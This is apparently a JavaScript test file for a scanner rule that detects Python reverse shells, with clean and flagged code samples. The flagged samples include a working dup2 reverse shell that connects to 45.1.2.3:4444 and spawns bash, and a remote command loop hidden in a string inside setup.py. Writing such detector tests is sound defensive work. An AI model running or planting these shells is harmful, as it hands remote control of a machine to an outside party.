import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-reverse-shell.js';

ruleTest(rule, {
  clean: [
    { name: 'echo server', file: 'server.py', code: `import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 9000))\nconn, _ = s.accept()\ndata = conn.recv(1024)\nconn.sendall(data)\n` },
    { name: 'CGI handler wiring the request socket to a script', file: 'http/server.py', code: `import os\nos.dup2(self.rfile.fileno(), 0)\nos.dup2(self.wfile.fileno(), 1)\nos.execve(scriptfile, args, env)\n` },
    { name: 'daemonizing with dup2 onto devnull', file: 'daemon.py', code: `import os\nfd = os.open(os.devnull, os.O_RDWR)\nos.dup2(fd, 0)\n` },
  ],
  flagged: [
    {
      name: 'classic dup2 reverse shell',
      file: 'r.py',
      code: `import socket, os, pty\ns = socket.socket()\ns.connect(("45.1.2.3", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/bash")\n`,
      findings: [{ line: 4, confidence: 'high' }],
    },
    {
      name: 'RAT code kept in a string and dropped',
      file: 'setup.py',
      code: `Code = """\nimport socket, subprocess\ns = socket.socket()\ns.connect((HOST, PORT))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_output(cmd, shell=True)\n    s.send(out)\n"""\nopen("r.py", "w").write(Code)\n`,
      findings: [{ line: 6, confidence: 'medium', message: /socket command loop/ }],
    },
  ],
});
